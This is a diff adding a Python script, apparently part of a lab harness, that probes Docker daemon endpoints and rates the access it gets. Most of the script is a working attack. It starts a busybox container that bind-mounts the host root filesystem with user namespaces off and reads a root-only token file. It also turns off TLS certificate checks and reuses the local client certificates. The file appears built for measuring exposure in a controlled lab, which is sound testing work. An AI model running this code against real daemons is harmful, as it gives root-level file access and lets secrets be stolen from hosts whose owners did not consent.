@@ -1,0 +1,297 @@
+"""Measures how much of a Docker daemon the machine gets on which this runs, by trying.
+
+The harness sends this program on standard input of `python3 -`, with TARGETS = ["tcp://…", …] and
+TOKEN_FILE, a file on the daemon's machine that only root can read, in front. It prints one JSON
+object per target: the level, what was seen, and what a container read from that file. Like the
+docker client it uses what lies in ~/.docker: cert.pem, key.pem, and config.json's HttpHeaders.
+It must run on Python 3.9.
+"""
+
+import http.client
+import json
+import os
+import re
+import socket
+import ssl
+import subprocess
+import sys
+import threading
+import time
+from concurrent.futures import ThreadPoolExecutor
+from contextlib import contextmanager, suppress
+from http import HTTPStatus
+
+#: Seconds a target has to say anything, and over ssh, which starts two programs over there.
+SILENCE, SSH_SILENCE = 3, 30
+#: Seconds a request has once the daemon has spoken.
+WORK = 40
+#: Bytes of an answer that are read.
+ENOUGH = 1_000_000
+NOT_ALLOWED = (HTTPStatus.UNAUTHORIZED, HTTPStatus.FORBIDDEN)
+#: Where the API may be: a proxy may let through what docker itself asks, which names a version.
+PREFIXES = ("", "/v1.40")
+#: What a server says of a client's certificate, or of its lack.
+ALERTS = re.compile(
+    "alert.((bad|unsupported|revoked).certificate|certificate.(required|expired|unknown|revoked)"
+    "|unknown.ca|handshake.failure|access.denied|decrypt.error)",
+    re.IGNORECASE,
+)
+#: What comes of TLS with a server that speaks none.
+NO_TLS = re.compile("wrong.version.number|packet.length|record.layer", re.IGNORECASE)
+DOCKER = os.path.expanduser("~/.docker")
+IMAGE = "/usr/local/share/dockerd-lab/busybox.tar"
+
+
+class Gets(Exception):
+    """Ends a measurement: the level that was reached, and what showed it."""
+
+
+def measure(target):
+    """The level of one target, with its evidence, the token that was read, and the seconds."""
+    seen = {"target": target, "token": ""}
+    started = time.monotonic()
+    try:
+        seen["token"] = read_token(target, first_answer(target))
+        seen["level"], seen["evidence"] = "full-control", "a container read " + TOKEN_FILE  # noqa: F821
+    except Gets as end:
+        seen["level"], seen["evidence"] = end.args
+    except Exception as error:  # an odd target must not cost the others their answers
+        seen["level"], seen["evidence"] = "unclear", repr(error)
+    seen["seconds"] = round(time.monotonic() - started, 2)
+    return seen
+
+
+def first_answer(target):
+    """Find out whether a target speaks HTTP or HTTPS; return its TLS context or None."""
+    if target.startswith("ssh:"):
+        over_ssh(target)
+        return None
+    end = time.monotonic() + SILENCE
+    for tls in (None, context()):
+        try:
+            status, body = request(target, tls, "GET", "/_ping", end=end)
+        except socket.timeout:
+            raise Gets("filtered", f"connected, but no answer within {SILENCE} s") from None
+        except (OSError, http.client.HTTPException) as error:
+            if tls is not None:
+                raise refused_tls(target, error) from None
+            continue  # some servers hang up on HTTP where they want HTTPS
+        if b"SSL certificate" in body:  # nginx, to a client without one
+            raise Gets("tls-required", f"HTTP {status}: {text(body)}")
+        if not (b"HTTPS" in body and status == HTTPStatus.BAD_REQUEST):
+            return tls
+    raise Gets("refused", f"answers as if HTTPS were HTTP: {text(body)}")
+
+
+def refused_tls(target, error):
+    """What a failed HTTPS request tells: only words about certificates make it `tls-required`."""
+    if NO_TLS.search(str(error)):
+        return Gets("refused", f"neither HTTP nor HTTPS: {error}")
+    if not ALERTS.search(str(error)):
+        # A server that has hung up may have said why; who sends nothing hears it.
+        try:
+            with connected(target, context(), time.monotonic() + SILENCE) as made:
+                made.recv(1)
+        except ssl.SSLError as alert:
+            error = alert
+        except OSError as none:
+            error = none
+    level = "tls-required" if ALERTS.search(str(error)) else "unclear"
+    return Gets(level, f"TLS: {error!r}")
+
+
+def read_token(target, tls):
+    """Run a container that reads the token from the daemon machine's root filesystem."""
+    for prefix in PREFIXES:
+        status, body = work(target, tls, "GET", prefix + "/containers/json")
+        if is_list(status, body):
+            break
+    answers = is_list(status, body)
+    if not answers and status not in NOT_ALLOWED:
+        raise Gets("refused", f"not Docker's API: HTTP {status}: {text(body)}")
+    refusal = f"GET /containers/json: HTTP {status}: {text(body)}"
+    name = "dockerd-lab-probe-" + os.urandom(4).hex()
+    try:
+        status, body = create(target, tls, prefix, name)
+        if status != HTTPStatus.CREATED and not answers:
+            raise Gets("auth-required", refusal)
+        must(status, HTTPStatus.CREATED, "creating a container", body)
+        container = prefix + "/containers/" + name
+        status, body = work(target, tls, "POST", container + "/start")
+        must(status, HTTPStatus.NO_CONTENT, "starting a container", body)
+        work(target, tls, "POST", container + "/wait")
+        status, body = work(target, tls, "GET", container + "/logs?stdout=1&stderr=1")
+        must(status, HTTPStatus.OK, "reading a container's output", body)
+        return text(body)
+    finally:
+        gone = f"{prefix}/containers/{name}?force=1"
+        status, body = work(target, tls, "DELETE", gone)
+        if answers and status not in (HTTPStatus.NO_CONTENT, HTTPStatus.NOT_FOUND, *NOT_ALLOWED):
+            raise Gets("unclear", f"{name} may be left: HTTP {status}: {text(body)}")
+
+
+def create(target, tls, prefix, name):
+    """Create the container; where the daemon has not its image, that is brought along."""
+    wanted = {
+        "Image": "busybox:latest",
+        "Cmd": ["cat", "/host" + TOKEN_FILE],  # noqa: F821
+        "Tty": True,
+        "HostConfig": {
+            "Binds": ["/:/host:ro"],
+            "NetworkMode": "none",
+            "UsernsMode": "host",
+            "LogConfig": {"Type": "json-file"},
+        },
+    }
+    path = f"{prefix}/containers/create?name={name}"
+    status, body = work(target, tls, "POST", path, wanted)
+    if status == HTTPStatus.NOT_FOUND and b"image" in body.lower() and os.path.exists(IMAGE):
+        with open(IMAGE, "rb") as image:
+            loaded, said = work(target, tls, "POST", prefix + "/images/load", image.read())
+        must(loaded, HTTPStatus.OK, "loading an image", said)
+        status, body = work(target, tls, "POST", path, wanted)
+    return status, body
+
+
+def is_list(status, body):
+    """Whether an answer is the API's list of containers."""
+    try:
+        return status == HTTPStatus.OK and isinstance(json.loads(body), list)
+    except ValueError:
+        return False
+
+
+def must(status, wanted, what, body):
+    """Raise Gets where a request was not granted: refused by whoever guards it, or gone wrong."""
+    if status != wanted:
+        refused = HTTPStatus.BAD_REQUEST <= status < HTTPStatus.INTERNAL_SERVER_ERROR
+        level = "read-only" if refused else "unclear"
+        raise Gets(level, f"{what}: HTTP {status}: {text(body)}")
+
+
+def work(target, tls, method, path, body=None):
+    """A request to a daemon that has spoken; one that fails now tells nothing of the level."""
+    try:
+        return request(target, tls, method, path, body, end=time.monotonic() + WORK)
+    except (OSError, http.client.HTTPException) as error:
+        raise Gets("unclear", f"{method} {path}: {error!r}") from None
+
+
+def request(target, tls, method, path, body=None, *, end):
+    """Send one request on a connection of its own; return status and body, by `end`."""
+    with connected(target, tls, end) as made:
+        connection = http.client.HTTPConnection("docker")  # the Host header; nobody minds it
+        connection.sock = made
+        headers = dict(HEADERS)
+        if isinstance(body, dict):
+            body, headers["Content-Type"] = json.dumps(body), "application/json"
+        connection.request(method, path, body, headers)
+        answer = connection.getresponse()
+        return answer.status, answer.read(ENOUGH)
+
+
+@contextmanager
+def connected(target, tls, end):
+    """A connection that is over at `end`, however slowly the other side speaks."""
+    made = connect(target, max(0.1, end - time.monotonic()))
+    if tls is not None:
+        made = tls.wrap_socket(made, do_handshake_on_connect=False)
+    last = threading.Timer(max(0.1, end - time.monotonic()), shut, [made])
+    last.start()
+    try:
+        if tls is not None:
+            made.do_handshake()
+        yield made
+    except (OSError, http.client.HTTPException):
+        if time.monotonic() >= end:
+            raise socket.timeout() from None
+        raise
+    finally:
+        last.cancel()
+        made.close()
+
+
+def shut(made):
+    """End a connection, also for a thread that waits for it."""
+    with suppress(OSError):
+        made.shutdown(socket.SHUT_RDWR)
+
+
+def connect(target, limit):
+    """A connection to a target; raises Gets where there is none."""
+    kind, place = target.split("://", 1)
+    try:
+        if kind == "ssh":
+            made, there = socket.socketpair()
+            dial = ssh(target, "docker", "system", "dial-stdio")
+            subprocess.Popen(dial, stdin=there, stdout=there, stderr=subprocess.DEVNULL)
+            there.close()
+        elif kind == "unix":
+            made = socket.socket(socket.AF_UNIX)
+            made.settimeout(limit)
+            made.connect("\0" + place[1:] if place.startswith("@") else place)
+        else:
+            host, port = place.rsplit(":", 1)
+            made = socket.create_connection((host.strip("[]"), int(port)), timeout=limit)
+    except socket.timeout:
+        raise Gets("filtered", f"no answer within {SILENCE} s") from None
+    except OSError as error:
+        raise Gets("refused", os.strerror(error.errno) if error.errno else str(error)) from None
+    made.settimeout(limit)
+    return made
+
+
+def over_ssh(target):
+    """Raise Gets where ssh does not lead to a daemon, with the level that its words tell."""
+    try:
+        tried = subprocess.run(
+            ssh(target, "docker", "version", "--format", "{{.Server.Version}}"),
+            stdin=subprocess.DEVNULL,
+            stdout=subprocess.PIPE,
+            stderr=subprocess.PIPE,
+            timeout=SSH_SILENCE,
+        )
+    except subprocess.TimeoutExpired:
+        raise Gets("filtered", f"ssh: no answer within {SSH_SILENCE} s") from None
+    if tried.returncode == 0:
+        return
+    said = "ssh: " + text(tried.stderr)
+    if "Permission denied (" in said:
+        raise Gets("auth-required", said)
+    raise Gets("filtered" if "timed out" in said else "refused", said)
+
+
+def ssh(target, *command):
+    """What `docker -H ssh://…` runs."""
+    options = ("BatchMode=yes", "StrictHostKeyChecking=accept-new", "ConnectTimeout=10")
+    return ["ssh", *(word for option in options for word in ("-o", option)), target, *command]
+
+
+def context():
+    """TLS with this machine's client certificate, if it has one; any server's is taken."""
+    made = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    made.check_hostname, made.verify_mode = False, ssl.CERT_NONE
+    made.minimum_version = ssl.TLSVersion.TLSv1  # an old server is open all the same
+    made.set_ciphers("DEFAULT@SECLEVEL=0")
+    if os.access(DOCKER + "/cert.pem", os.R_OK) and os.access(DOCKER + "/key.pem", os.R_OK):
+        made.load_cert_chain(DOCKER + "/cert.pem", DOCKER + "/key.pem")
+    return made
+
+
+def configured_headers():
+    """What the docker client sends with every request."""
+    try:
+        with open(DOCKER + "/config.json") as file:
+            return dict(json.load(file)["HttpHeaders"])
+    except (OSError, ValueError, KeyError, TypeError):
+        return {}
+
+
+def text(body):
+    """The start of an answer on one line."""
+    return " ".join(body.decode(errors="replace").split())[:200]
+
+
+HEADERS = configured_headers()
+with ThreadPoolExecutor(8) as pool:
+    json.dump(list(pool.map(measure, TARGETS)), sys.stdout)  # noqa: F821
